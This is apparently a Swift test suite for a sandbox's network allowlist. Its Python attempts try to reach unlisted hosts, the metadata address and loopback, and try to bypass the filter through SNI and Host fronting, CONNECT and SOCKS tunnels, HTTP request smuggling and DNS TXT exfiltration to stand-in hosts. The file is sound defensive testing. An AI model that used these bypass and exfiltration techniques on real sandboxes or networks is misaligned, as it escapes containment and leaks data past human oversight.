import Foundation
import TestSupport
import Testing

/// A run that may use the network reaches what is listed, by name, and nothing else: each attempt is made where a
/// listed name works at the same time.
@Suite("nothing but the listed names is reached")
struct NetworkAttackTests {
    /// An attempt inside, which must print `held` and never `through`.
    struct Attempt: Sendable, CustomTestStringConvertible {
        let name: String
        let script: String
        var testDescription: String { name }

        init(_ name: String, _ script: String) {
            self.name = name
            self.script = script
        }

        /// A program of Python's that tries something; an `OSError` is a wall. In it, `ask` says one thing after the
        /// other on a connection, and the answer to the last of them must be no success.
        static func python(_ name: String, _ program: String) -> Attempt {
            Attempt(
                name,
                """
                /usr/bin/python3 - <<'PROGRAM'
                import os, socket, ssl, struct, time
                socket.setdefaulttimeout(10)
                def connect(host, port):
                    socket.create_connection((host, port), 10).close()
                def ask(host, port, *messages):
                    s = socket.create_connection((host, port))
                    for message in messages:
                        s.sendall(message)
                        answer = s.recv(1000)
                    if not answer.startswith(b"HTTP/1.1 200"): raise OSError(answer[:60])
                def attempt():
                \(program.split(separator: "\n").map { "    " + $0 }.joined(separator: "\n"))
                try:
                    attempt()
                    print("through")
                except OSError as error:
                    print("held", error)
                PROGRAM
                """
            )
        }
    }

    static let attempts: [Attempt] = [
        .python("an unlisted name", #"connect("secret.example.test", 443)"#),
        .python("a name below a listed one", #"connect("x.api.example.test", 443)"#),
        .python("another port", #"connect("api.example.test", 8443)"#),
        .python("a literal address", #"connect("1.1.1.1", 443)"#),
        .python("a literal address of IPv6", #"connect("2606:4700:4700::1111", 443)"#),
        .python("the metadata address", #"connect("169.254.169.254", 80)"#),
        .python("the host's loopback", #"connect("127.0.0.1", int(os.environ["HTTPS_PORT"]))"#),
        .python("the host's loopback, mapped", #"connect("::ffff:127.0.0.1", int(os.environ["HTTPS_PORT"]))"#),
        .python(
            "an address of the sandbox's own network that stands for no name",
            #"""
            s = socket.create_connection(("198.18.77.77", 443))
            if not s.recv(100): raise OSError("closed without a byte")
            """#
        ),
        .python(
            "UDP to a public address",
            #"""
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.connect(("1.1.1.1", 53))
            s.send(b"x")
            """#
        ),
        .python(
            "QUIC to a listed name",
            #"""
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.connect((socket.gethostbyname("api.example.test"), 443))
            s.send(bytes([0xc0]) + bytes(1199))
            s.recv(100)
            """#
        ),
        .python(
            "ICMP",
            #"""
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            s.sendto(b"\x08\x00" + bytes(6), ("1.1.1.1", 0))
            """#
        ),
        .python("a raw socket", #"socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"#),
        .python("a packet socket", #"socket.socket(17, socket.SOCK_RAW, 0)"#),
        .python("a virtual machine's socket", #"socket.socket(40, socket.SOCK_STREAM, 0)"#),
        .python(
            "the name of another host in the server name",
            #"""
            c = ssl.create_default_context(cafile="ca.pem")
            s = socket.create_connection(("api.example.test", 443))
            c.wrap_socket(s, server_hostname="secret.example.test")
            """#
        ),
        .python(
            "no server name",
            #"""
            c = ssl._create_unverified_context()
            c.wrap_socket(socket.create_connection(("api.example.test", 443)))
            """#
        ),
        .python(
            "bytes that are no TLS on 443",
            #"""
            ask("api.example.test", 443, b"GET / HTTP/1.1\r\nHost: secret.example.test\r\n\r\n")
            """#
        ),
        .python(
            "another Host in plain HTTP",
            #"""
            ask("api.example.test", 80, b"GET /fronted HTTP/1.1\r\nHost: secret.example.test\r\n\r\n")
            """#
        ),
        .python(
            "a second request for another host on the same connection",
            #"""
            ask("api.example.test", 80,
                b"GET /first HTTP/1.1\r\nHost: api.example.test\r\n\r\n",
                b"GET /second HTTP/1.1\r\nHost: secret.example.test\r\n\r\n")
            """#
        ),
        .python(
            "CONNECT to an unlisted name",
            #"""
            ask("198.18.0.1", 3128,
                b"CONNECT secret.example.test:443 HTTP/1.1\r\nHost: secret.example.test:443\r\n\r\n")
            """#
        ),
        .python(
            "CONNECT to an address",
            #"""
            ask("198.18.0.1", 3128,
                b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n" % int(os.environ["HTTPS_PORT"]))
            """#
        ),
        .python(
            "CONNECT inside CONNECT",
            #"""
            ask("198.18.0.1", 3128,
                b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n",
                b"CONNECT secret.example.test:443 HTTP/1.1\r\nHost: secret.example.test:443\r\n\r\n")
            """#
        ),
        .python(
            "SOCKS to an unlisted name",
            #"""
            s = socket.create_connection(("198.18.0.1", 1080))
            s.sendall(b"\x05\x01\x00")
            s.recv(2)
            s.sendall(b"\x05\x01\x00\x03\x13secret.example.test\x01\xbb")
            answer = s.recv(10)
            if answer[1:2] != b"\x00": raise OSError(answer)
            """#
        ),
        .python(
            "an absolute request smuggled behind a body of two lengths",
            #"""
            ask("198.18.0.1", 3128,
                b"POST http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 4\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                b"GET /smuggled HTTP/1.1\r\nHost: secret.example.test\r\n\r\n")
            """#
        ),
        .python(
            "a question for TXT of a name that carries data",
            #"""
            name = b"".join(bytes([len(l)]) + l for l in [b"c2VjcmV0", b"api", b"example", b"test"]) + b"\0"
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.connect(("198.18.0.1", 53))
            s.send(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1))
            answer = s.recv(512)
            if struct.unpack(">H", answer[6:8])[0] == 0: raise OSError("no answer records")
            """#
        ),
        .python(
            "an abstract socket of the host",
            #"""
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("\0" + os.environ["ABSTRACT"])
            """#
        ),
    ]

    @Test("tried", arguments: TestIdentity.available, attempts)
    func holds(_ identity: TestIdentity, _ attempt: Attempt) throws {
        let network = try NetworkYard(identity)
        let script = "curl -sS --cacert ca.pem https://api.example.test/control\n" + attempt.script
        let ports = ["--env", "HTTPS_PORT=\(network.port("https"))", "--env", "ABSTRACT=bailey-none"]
        let result = try network.yard.bailey(["run"] + ports + ["--", "/bin/sh", "-c", script])
        #expect(result.stdout.hasPrefix("hello https /control\n"), "no control: \(result.summary)")
        #expect(result.stdout.contains("\nheld"), "\(result.summary)")
        #expect(!result.stdout.contains("through"), "\(result.summary)")
        let seen = try network.seen()
        #expect(!seen.contains("secret.example.test") && !seen.contains("smuggled"), "\(seen)")
    }

    @Test("every unprivileged port of loopback is the programs' own", arguments: TestIdentity.available)
    func loopback(_ identity: TestIdentity) throws {
        let network = try NetworkYard(identity)
        let script = """
            /usr/bin/python3 - <<'PROGRAM'
            import socket
            for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
                for port in [1080, 3128, 7777, 8443, 5353, 1024, 65535]:
                    server = socket.socket(family)
                    server.bind((address, port))
                    server.listen()
                    socket.create_connection((address, port)).close()
            print("bound")
            PROGRAM
            """
        let result = try network.inside(script)
        #expect(result.stdout == "bound\n", "\(result.summary)")
    }

    @Test("what was refused is said, recorded, and what would allow it")
    func says() throws {
        let network = try NetworkYard()
        let result = try network.inside("curl -sS -m 10 https://secret.example.test/; true")
        #expect(result.stderr.contains("secret.example.test"), "\(result.summary)")
        let log = try network.yard.bailey(["egress", "log", "--json"])
        #expect(log.stdout.contains(#""host":"secret.example.test""#), "\(log.summary)")
        #expect(log.stdout.contains(#""verdict":"deny""#), "\(log.summary)")
    }
}
